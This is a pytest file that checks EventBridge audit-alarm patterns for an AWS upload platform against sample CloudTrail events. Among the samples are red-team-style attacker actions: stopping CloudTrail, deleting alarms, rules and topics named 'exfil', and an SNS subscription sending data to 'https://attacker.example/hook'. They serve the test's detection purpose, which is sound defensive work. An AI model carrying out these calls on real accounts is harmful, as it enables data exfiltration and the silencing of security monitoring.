"""The audit alarms match the CloudTrail events they are meant for, and nothing routine.

modules/audit-trail builds its EventBridge rules from alarms.json.tftpl with
templatefile(); this test renders the same file the same way and evaluates
each pattern with moto's EventBridge matcher against one sample "AWS API
Call via CloudTrail" event per alarmed call, plus calls that must stay quiet.
"""

from __future__ import annotations

import json
import re
import string
from pathlib import Path
from typing import Any

import pytest
from moto.events.models import EventPattern

REPO_ROOT = Path(__file__).resolve().parents[2]
MODULE = REPO_ROOT / "modules" / "audit-trail"
TEMPLATE = MODULE / "alarms.json.tftpl"
PROJECT, ENVIRONMENT, ACCOUNT = "secure-upload", "dev", "111111111111"
PREFIX = f"{PROJECT}-audit"
TOPIC_ARN = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PREFIX}-alerts"
BOUNDARY_ARN = f"arn:aws:iam::{ACCOUNT}:policy/{PROJECT}-{ENVIRONMENT}-workload-boundary"
ISSUER_PARAMETER = f"/{PROJECT}/{ENVIRONMENT}/cognito-issuer-url"
CLIENT_PARAMETER = f"/{PROJECT}/{ENVIRONMENT}/cognito-app-client-id"
RULES = {"trail-tampering", "data-protection", "iam-boundaries", "workload-trust"}

# EventBridge's comparison operators (content filtering) and the event's top-level fields.
OPERATORS = {"prefix", "suffix", "wildcard", "anything-but", "exists", "numeric",
             "equals-ignore-case", "cidr"}  # fmt: skip
EVENT_FIELDS = {"version", "id", "detail-type", "source", "account", "time", "region",
                "resources", "detail"}  # fmt: skip
MAX_PATTERN_LENGTH = 4096  # PutRule EventPattern


def _render() -> dict[str, Any]:
    """The alarms as Terraform's templatefile() renders them for dev."""
    text = string.Template(TEMPLATE.read_text(encoding="utf-8")).safe_substitute(
        project=PROJECT, environment=ENVIRONMENT
    )
    assert "${" not in text, "a template variable the test does not know"
    alarms: dict[str, Any] = json.loads(text)
    return alarms


ALARMS = _render()


def _api_call(
    source: str,
    event_name: str,
    request: dict[str, Any] | None = None,
    *,
    error_code: str | None = None,
    detail_type: str = "AWS API Call via CloudTrail",
) -> dict[str, Any]:
    """An EventBridge event as CloudTrail delivers it to the default bus."""
    detail: dict[str, Any] = {
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "AssumedRole",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{PROJECT}-{ENVIRONMENT}-github-terraform",
            "accountId": ACCOUNT,
        },
        "eventTime": "2025-01-01T12:00:00Z",
        "eventSource": f"{source.removeprefix('aws.')}.amazonaws.com",
        "eventName": event_name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.10",
        "requestParameters": request,
        "responseElements": None,
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "eventCategory": "Management",
    }
    if error_code:
        detail["errorCode"] = error_code
    return {
        "version": "0",
        "id": "6f4f8b5e-0000-0000-0000-000000000000",
        "detail-type": detail_type,
        "source": source,
        "account": ACCOUNT,
        "time": "2025-01-01T12:00:00Z",
        "region": "us-east-1",
        "resources": [],
        "detail": detail,
    }


def matching_rules(event: dict[str, Any]) -> set[str]:
    message: Any = event  # moto types it as its own TypedDict; any JSON object will do
    return {
        name
        for name, alarm in ALARMS.items()
        if EventPattern.load(json.dumps(alarm["event_pattern"])).matches_event(message)
    }


# One sample per alarmed call: (rule, source, eventName, requestParameters).
TRAIL = {"name": f"arn:aws:cloudtrail:us-east-1:{ACCOUNT}:trail/{PREFIX}-trail"}
UPLOADS = {"bucketName": f"{PROJECT}-{ENVIRONMENT}-uploads-{ACCOUNT}"}
KEY = {"keyId": f"arn:aws:kms:us-east-1:{ACCOUNT}:key/00000000-0000-0000-0000-000000000000"}
BOUNDARY = {"policyArn": BOUNDARY_ARN}
ROLE = {"roleName": f"{PROJECT}-{ENVIRONMENT}-anything"}
POOL = {"userPoolId": "us-east-1_Example"}
TOPIC = {"topicArn": TOPIC_ARN}
SUBSCRIPTION = {"subscriptionArn": f"{TOPIC_ARN}:0b1c2d3e"}
PARAMETERS = f"/{PROJECT}/{ENVIRONMENT}"
TABLE = {"tableName": f"{PROJECT}-{ENVIRONMENT}-files"}
GUARD_RAILS_ARN = f"arn:aws:iam::{ACCOUNT}:policy/{PROJECT}-{ENVIRONMENT}-github-guard-rails"
TERRAFORM_RESOURCES_ARN = (
    f"arn:aws:iam::{ACCOUNT}:policy/{PROJECT}-{ENVIRONMENT}-github-terraform-resources"
)
SECRET = {"secretId": f"{PROJECT}-{ENVIRONMENT}-smoke-user"}
# The environment's own alarm topic (modules/observability) and alarms.
ALARM_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-{ENVIRONMENT}-alarms"
ALARM = f"{PROJECT}-{ENVIRONMENT}-dlq-not-empty"
FUNCTION_ALARM = f"{PROJECT}-{ENVIRONMENT}-upload-api-errors"
OTHER_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-prod-alarms"
# Somewhere to send events: a rule, queue or topic of CI's making (H1 of the
# red-team review) and the platform's own.
EXFIL_RULE = f"{PROJECT}-{ENVIRONMENT}-exfil"
OBJECT_CREATED_RULE = f"{PROJECT}-{ENVIRONMENT}-object-created"
FILE_EVENTS_BUS = f"{PROJECT}-{ENVIRONMENT}-file-events"
EXFIL_TOPIC = f"arn:aws:sns:us-east-1:{ACCOUNT}:{PROJECT}-{ENVIRONMENT}-exfil"
EXFIL_QUEUE = f"https://sqs.us-east-1.amazonaws.com/{ACCOUNT}/{PROJECT}-{ENVIRONMENT}-exfil"
DLQ = f"https://sqs.us-east-1.amazonaws.com/{ACCOUNT}/{PROJECT}-{ENVIRONMENT}-files-stream-dlq"
PLAN = {"malwareProtectionPlanId": "b4c7f464ab3a4EXAMPLE"}
PIPE = {"name": f"{PROJECT}-{ENVIRONMENT}-files-stream"}
STATE_MACHINES = f"arn:aws:states:us-east-1:{ACCOUNT}:stateMachine"
STATE_MACHINE = {"stateMachineArn": f"{STATE_MACHINES}:{PROJECT}-{ENVIRONMENT}-processing"}
S3_CALLS = (
    "PutBucketPolicy", "DeleteBucketPolicy", "PutBucketLogging", "PutBucketVersioning",
    "PutBucketLifecycle", "PutBucketLifecycleConfiguration", "DeleteBucketLifecycle",
    "PutBucketObjectLockConfiguration", "PutObjectLockConfiguration",
    "PutBucketPublicAccessBlock", "DeleteBucketPublicAccessBlock",
    "PutBucketEncryption", "DeleteBucketEncryption",
)  # fmt: skip
ALARMED: list[tuple[str, str, str, dict[str, Any]]] = [
    ("trail-tampering", "aws.cloudtrail", "StopLogging", TRAIL),
    ("trail-tampering", "aws.cloudtrail", "DeleteTrail", TRAIL),
    ("trail-tampering", "aws.cloudtrail", "UpdateTrail", TRAIL),
    ("trail-tampering", "aws.cloudtrail", "PutEventSelectors", TRAIL),
    *(("trail-tampering", "aws.logs", name, {"logGroupName": "/aws/lambda/x"})
      for name in ("DeleteLogGroup", "PutRetentionPolicy", "DeleteRetentionPolicy",
                   "AssociateKmsKey", "DisassociateKmsKey")),
    ("trail-tampering", "aws.sns", "DeleteTopic", TOPIC),
    ("trail-tampering", "aws.sns", "AddPermission", TOPIC),
    ("trail-tampering", "aws.sns", "RemovePermission", TOPIC),
    ("trail-tampering", "aws.sns", "Unsubscribe", SUBSCRIPTION),
    ("trail-tampering", "aws.sns", "SetSubscriptionAttributes", SUBSCRIPTION),
    # The environment's alarms and their topic (finding L4 of the red-team review).
    ("trail-tampering", "aws.sns", "DeleteTopic", {"topicArn": ALARM_TOPIC}),
    ("trail-tampering", "aws.sns", "RemovePermission", {"topicArn": ALARM_TOPIC, "label": "x"}),
    ("trail-tampering", "aws.sns", "Unsubscribe", {"subscriptionArn": f"{ALARM_TOPIC}:1f2e3d4c"}),
    ("trail-tampering", "aws.sns", "SetSubscriptionAttributes",
     {"subscriptionArn": f"{ALARM_TOPIC}:1f2e3d4c", "attributeName": "FilterPolicy"}),
    ("trail-tampering", "aws.cloudwatch", "DeleteAlarms", {"alarmNames": ["other", ALARM]}),
    ("trail-tampering", "aws.cloudwatch", "DisableAlarmActions", {"alarmNames": [FUNCTION_ALARM]}),
    ("trail-tampering", "aws.cloudwatch", "PutMetricAlarm",
     {"alarmName": ALARM, "alarmActions": [], "threshold": 1000000.0}),
    ("trail-tampering", "aws.cloudwatch", "PutMetricAlarm", {"alarmName": f"{PREFIX}-x"}),
    *(("data-protection", "aws.s3", name, UPLOADS) for name in S3_CALLS),
    ("data-protection", "aws.kms", "PutKeyPolicy", {**KEY, "policyName": "default"}),
    ("data-protection", "aws.kms", "ScheduleKeyDeletion", {**KEY, "pendingWindowInDays": 7}),
    ("data-protection", "aws.kms", "DisableKey", KEY),
    ("data-protection", "aws.kms", "DisableKeyRotation", KEY),
    *(("data-protection", "aws.dynamodb", name, TABLE)
      for name in ("DeleteTable", "UpdateTable", "UpdateContinuousBackups", "UpdateTimeToLive",
                   "ExportTableToPointInTime", "DeleteBackup")),
    # Malware scanning decides what is downloadable (finding L4 of the red-team review).
    ("data-protection", "aws.guardduty", "UpdateMalwareProtectionPlan",
     {**PLAN, "actions": {"tagging": {"status": "DISABLED"}}}),
    ("data-protection", "aws.guardduty", "DeleteMalwareProtectionPlan", PLAN),
    # Where events can go: any rule and target, on any bus (H1 of the red-team review).
    ("data-protection", "aws.events", "PutRule",
     {"name": EXFIL_RULE, "eventPattern": '{"detail-type":["Object Created"]}'}),
    ("data-protection", "aws.events", "PutTargets",
     {"rule": EXFIL_RULE, "targets": [{"id": "1", "arn": EXFIL_TOPIC}]}),
    ("data-protection", "aws.events", "PutTargets",
     {"rule": "exfil", "eventBusName": FILE_EVENTS_BUS, "targets": [{"arn": EXFIL_TOPIC}]}),
    ("data-protection", "aws.events", "PutRule", {"name": OBJECT_CREATED_RULE}),
    ("data-protection", "aws.events", "DisableRule", {"name": OBJECT_CREATED_RULE}),
    ("data-protection", "aws.events", "DeleteRule", {"name": OBJECT_CREATED_RULE}),
    ("data-protection", "aws.events", "RemoveTargets", {"rule": OBJECT_CREATED_RULE, "ids": ["1"]}),
    ("data-protection", "aws.events", "UpdateEventBus",
     {"name": FILE_EVENTS_BUS, "deadLetterConfig": {"arn": "arn:x"}}),
    ("data-protection", "aws.events", "PutPermission", {"eventBusName": FILE_EVENTS_BUS}),
    ("data-protection", "aws.sns", "CreateTopic", {"name": f"{PROJECT}-{ENVIRONMENT}-exfil"}),
    ("data-protection", "aws.sns", "Subscribe",
     {"topicArn": EXFIL_TOPIC, "protocol": "https", "endpoint": "https://attacker.example/hook"}),
    ("data-protection", "aws.sns", "SetTopicAttributes",
     {"topicArn": EXFIL_TOPIC, "attributeName": "Policy"}),
    ("data-protection", "aws.sqs", "SetQueueAttributes",
     {"queueUrl": EXFIL_QUEUE, "attributes": {"Policy": "{}"}}),
    ("data-protection", "aws.sqs", "SetQueueAttributes", {"queueUrl": DLQ, "attributes": {}}),
    ("data-protection", "aws.sqs", "AddPermission",
     {"queueUrl": DLQ, "aWSAccountIds": ["222222222222"], "actions": ["ReceiveMessage"]}),
    ("iam-boundaries", "aws.iam", "CreatePolicyVersion", {**BOUNDARY, "setAsDefault": True}),
    ("iam-boundaries", "aws.iam", "SetDefaultPolicyVersion", {**BOUNDARY, "versionId": "v1"}),
    ("iam-boundaries", "aws.iam", "DeletePolicy", BOUNDARY),
    ("iam-boundaries", "aws.iam", "CreatePolicyVersion", {"policyArn": GUARD_RAILS_ARN}),
    ("iam-boundaries", "aws.iam", "DeletePolicy", {"policyArn": TERRAFORM_RESOURCES_ARN}),
    *(("iam-boundaries", "aws.iam", name, {**ROLE, "policyName": "x"})
      for name in ("PutRolePolicy", "DeleteRolePolicy", "AttachRolePolicy", "DetachRolePolicy")),
    ("iam-boundaries", "aws.iam", "PutRolePermissionsBoundary", ROLE),
    ("iam-boundaries", "aws.iam", "DeleteRolePermissionsBoundary", ROLE),
    ("iam-boundaries", "aws.iam", "UpdateAssumeRolePolicy", {**ROLE, "policyDocument": "{}"}),
    ("iam-boundaries", "aws.iam", "CreateRole", {**ROLE, "assumeRolePolicyDocument": "{}"}),
    ("workload-trust", "aws.ssm", "PutParameter", {"name": ISSUER_PARAMETER, "overwrite": True}),
    ("workload-trust", "aws.ssm", "PutParameter", {"name": ISSUER_PARAMETER.lstrip("/")}),
    ("workload-trust", "aws.ssm", "DeleteParameter", {"name": CLIENT_PARAMETER}),
    ("workload-trust", "aws.ssm", "DeleteParameters", {"names": ["/x", ISSUER_PARAMETER]}),
    ("workload-trust", "aws.cognito-idp", "UpdateUserPool", POOL),
    ("workload-trust", "aws.cognito-idp", "DeleteUserPool", POOL),
    ("workload-trust", "aws.cognito-idp", "SetUserPoolMfaConfig", POOL),
    ("workload-trust", "aws.cognito-idp", "CreateUserPoolClient", {**POOL, "clientName": "x"}),
    ("workload-trust", "aws.cognito-idp", "DeleteUserPoolClient", {**POOL, "clientId": "abc"}),
    ("workload-trust", "aws.cognito-idp", "DeleteIdentityProvider", {**POOL, "providerName": "X"}),
    ("workload-trust", "aws.ssm", "PutParameter", {"name": f"{PARAMETERS}/upload-bucket-name"}),
    ("workload-trust", "aws.states", "CreateStateMachine", {"name": "x"}),
    ("workload-trust", "aws.pipes", "CreatePipe", {"name": "x"}),
    *(("workload-trust", "aws.secretsmanager", name, SECRET)
      for name in ("CreateSecret", "DeleteSecret", "RestoreSecret", "UpdateSecret",
                   "PutSecretValue", "PutResourcePolicy", "DeleteResourcePolicy")),
    ("workload-trust", "aws.cognito-idp", "UpdateUserPoolClient", {**POOL, "clientId": "abc"}),
    ("workload-trust", "aws.cognito-idp", "CreateIdentityProvider", {**POOL, "providerName": "X"}),
    ("workload-trust", "aws.cognito-idp", "UpdateIdentityProvider", {**POOL, "providerName": "X"}),
    ("workload-trust", "aws.states", "UpdateStateMachine", {"stateMachineArn": "arn:x"}),
    ("workload-trust", "aws.pipes", "UpdatePipe", {"name": f"{PROJECT}-{ENVIRONMENT}-files"}),
    # Availability of scanning and processing (finding L4 of the red-team review).
    ("workload-trust", "aws.states", "DeleteStateMachine", STATE_MACHINE),
    ("workload-trust", "aws.pipes", "StopPipe", PIPE),
    ("workload-trust", "aws.pipes", "DeletePipe", PIPE),
]  # fmt: skip

# Calls that raise two alarms: silencing the alarms' topics is also a change of
# where messages go.
ALARMED_TWICE: list[tuple[set[str], str, str, dict[str, Any]]] = [
    ({"trail-tampering", "data-protection"}, "aws.sns", "SetTopicAttributes",
     {**TOPIC, "attributeName": "Policy"}),
    ({"trail-tampering", "data-protection"}, "aws.sns", "SetTopicAttributes",
     {"topicArn": ALARM_TOPIC, "attributeName": "Policy"}),
]  # fmt: skip

# Changes to the alarm rules themselves are reported by two rules, so that
# disabling either one is still reported by the other.
WATCHED_BY_TWO = {"trail-tampering", "data-protection"}
ALARM_RULE_CHANGES: list[tuple[str, dict[str, Any]]] = [
    *((name, {"name": f"{PREFIX}-{rule}"})
      for name in ("DisableRule", "DeleteRule", "PutRule") for rule in sorted(RULES)),
    *((name, {"rule": f"{PREFIX}-{rule}", "ids": ["alerts"]})
      for name in ("RemoveTargets", "PutTargets") for rule in sorted(RULES)),
]  # fmt: skip

QUIET: list[tuple[str, str, dict[str, Any]]] = [
    ("aws.cloudtrail", "StartLogging", TRAIL),
    ("aws.cloudtrail", "LookupEvents", {}),
    ("aws.s3", "GetBucketPolicy", UPLOADS),
    ("aws.s3", "PutObject", {**UPLOADS, "key": "uploads/u/f/a.txt"}),
    ("aws.kms", "Decrypt", {"encryptionContext": {}}),
    ("aws.kms", "CreateKey", {}),
    ("aws.iam", "CreatePolicyVersion", {"policyArn": f"{BOUNDARY_ARN}-copy"}),
    ("aws.dynamodb", "DescribeTable", TABLE),
    ("aws.secretsmanager", "GetSecretValue", SECRET),
    ("aws.ssm", "PutParameter", {"name": f"/{PROJECT}/prod/cognito-issuer-url"}),
    ("aws.ssm", "GetParameter", {"name": ISSUER_PARAMETER}),
    ("aws.events", "DescribeRule", {"name": OBJECT_CREATED_RULE}),
    ("aws.events", "EnableRule", {"name": OBJECT_CREATED_RULE}),
    ("aws.events", "PutEvents", {"entries": [{"source": "secure-upload.files"}]}),
    ("aws.sns", "DeleteTopic", {"topicArn": OTHER_TOPIC}),
    ("aws.sns", "Unsubscribe", {"subscriptionArn": f"{OTHER_TOPIC}:1"}),
    ("aws.sns", "Publish", {"topicArn": ALARM_TOPIC}),
    ("aws.sqs", "CreateQueue", {"queueName": "x"}),
    ("aws.sqs", "SendMessage", {"queueUrl": DLQ}),
    ("aws.cloudwatch", "PutMetricAlarm", {"alarmName": f"{PROJECT}-prod-dlq-not-empty"}),
    ("aws.cloudwatch", "DeleteAlarms", {"alarmNames": ["someone-elses-alarm"]}),
    ("aws.cloudwatch", "DescribeAlarms", {"alarmNames": [ALARM]}),
    ("aws.guardduty", "GetMalwareProtectionPlan", PLAN),
    ("aws.pipes", "StartPipe", PIPE),
    ("aws.pipes", "DescribePipe", PIPE),
    ("aws.states", "StartExecution", {}),
    ("aws.cognito-idp", "AdminGetUser", POOL),
    ("aws.logs", "CreateLogGroup", {"logGroupName": "/aws/lambda/x"}),
]  # fmt: skip


# ------------------------------------------------------------------ one source


def test_terraform_builds_the_rules_from_this_template() -> None:
    main = (MODULE / "main.tf").read_text(encoding="utf-8")
    rendered = r'templatefile\("\$\{path\.module\}/alarms\.json\.tftpl",\s*\{([^}]*)\}\)'
    call = re.search(rendered, main)
    assert call is not None, "main.tf no longer renders alarms.json.tftpl"
    passed = set(re.findall(r"^\s*(\w+)\s*=", call.group(1), re.M))
    used = set(re.findall(r"\$\{(\w+)\}", TEMPLATE.read_text(encoding="utf-8")))
    # The test renders exactly what Terraform passes (project, environment).
    assert passed == used == {"project", "environment"}
    assert re.search(r"for_each\s*=\s*local\.alarms", main)
    assert "event_pattern = jsonencode(each.value.event_pattern)" in main


def test_the_rules_are_the_four_alarm_groups_with_descriptions() -> None:
    assert set(ALARMS) == RULES
    for name, alarm in ALARMS.items():
        assert set(alarm) == {"description", "event_pattern"}, name
        assert 20 <= len(alarm["description"]) <= 512, name  # PutRule's limit is 512


# ------------------------------------------------------------------ syntax


def _check_filters(path: str, node: Any) -> None:
    if isinstance(node, dict):
        for key, value in node.items():
            if key == "$or":
                assert isinstance(value, list), f"{path}: $or takes an array"
                assert len(value) >= 2, f"{path}: $or needs 2+ branches"
                for i, branch in enumerate(value):
                    assert isinstance(branch, dict), f"{path}.$or[{i}]"
                    assert branch, f"{path}.$or[{i}] is empty"
                    _check_filters(f"{path}.$or[{i}]", branch)
            else:
                _check_filters(f"{path}.{key}", value)
        return
    assert isinstance(node, list), f"{path}: a leaf must be an array"
    assert node, f"{path}: empty arrays are refused"
    for item in node:
        if isinstance(item, dict):
            assert len(item) == 1, f"{path}: one operator per filter"
            assert set(item) <= OPERATORS, f"{path}: unknown operator {item}"
            (operator, argument), = item.items()  # fmt: skip
            if operator in {"prefix", "suffix", "wildcard"}:
                assert isinstance(argument, str), f"{path}: {operator} takes a string"
                assert argument, f"{path}: empty {operator}"
            if operator == "wildcard":
                assert "**" not in argument, f"{path}: consecutive wildcards are refused"
        else:
            assert isinstance(item, str | int | float | bool) or item is None, path


@pytest.mark.parametrize("name", sorted(RULES))
def test_each_pattern_is_valid_eventbridge_syntax(name: str) -> None:
    pattern = ALARMS[name]["event_pattern"]
    compact = json.dumps(pattern, separators=(",", ":"))
    assert len(compact) <= MAX_PATTERN_LENGTH
    EventPattern.load(compact)  # moto's parser: JSON, objects or non-empty arrays
    top = {k for k in pattern if k != "$or"} | {
        k for branch in pattern.get("$or", []) for k in branch
    }
    assert top <= EVENT_FIELDS, top - EVENT_FIELDS
    assert pattern["detail-type"] == ["AWS API Call via CloudTrail"]
    _check_filters(name, pattern)


# ------------------------------------------------------------------ matches


@pytest.mark.parametrize(
    ("rule", "source", "event_name", "parameters"),
    ALARMED,
    ids=[f"{source}:{name}" for _, source, name, _ in ALARMED],
)
def test_every_alarmed_call_raises_its_alarm(
    rule: str, source: str, event_name: str, parameters: dict[str, Any]
) -> None:
    assert matching_rules(_api_call(source, event_name, parameters)) == {rule}


@pytest.mark.parametrize(
    ("event_name", "parameters"),
    ALARM_RULE_CHANGES,
    ids=[f"{name}:{req.get('name') or req.get('rule')}" for name, req in ALARM_RULE_CHANGES],
)
def test_a_change_to_any_alarm_rule_is_reported_by_two_rules(
    event_name: str, parameters: dict[str, Any]
) -> None:
    assert matching_rules(_api_call("aws.events", event_name, parameters)) == WATCHED_BY_TWO


@pytest.mark.parametrize(
    ("rules", "source", "event_name", "parameters"),
    ALARMED_TWICE,
    ids=[f"{source}:{name}:{next(iter(req.values()))}" for _, source, name, req in ALARMED_TWICE],
)
def test_a_change_to_an_alarm_topic_is_reported_by_two_rules(
    rules: set[str], source: str, event_name: str, parameters: dict[str, Any]
) -> None:
    assert matching_rules(_api_call(source, event_name, parameters)) == rules


def test_a_refused_attempt_raises_the_alarm_too() -> None:
    event = _api_call("aws.cloudtrail", "StopLogging", TRAIL, error_code="AccessDenied")
    assert matching_rules(event) == {"trail-tampering"}


def test_every_call_a_pattern_names_has_a_sample() -> None:
    def names(node: Any) -> set[str]:
        if isinstance(node, dict):
            found = set(node.get("eventName", []))
            return found.union(*(names(v) for k, v in node.items() if k != "eventName"))
        if isinstance(node, list):
            return set().union(*(names(v) for v in node))
        return set()

    sampled = (
        {name for _, _, name, _ in ALARMED}
        | {name for _, _, name, _ in ALARMED_TWICE}
        | {name for name, _ in ALARM_RULE_CHANGES}
    )
    patterns = set().union(*(names(a["event_pattern"]) for a in ALARMS.values()))
    assert patterns == sampled


@pytest.mark.parametrize(
    ("source", "event_name", "parameters"),
    QUIET,
    ids=[f"{source}:{name}" for source, name, _ in QUIET],
)
def test_routine_and_unrelated_calls_stay_quiet(
    source: str, event_name: str, parameters: dict[str, Any]
) -> None:
    assert matching_rules(_api_call(source, event_name, parameters)) == set()


def test_service_events_are_not_api_calls() -> None:
    service_event = "AWS Service Event via CloudTrail"
    event = _api_call("aws.cloudtrail", "StopLogging", TRAIL, detail_type=service_event)
    assert matching_rules(event) == set()
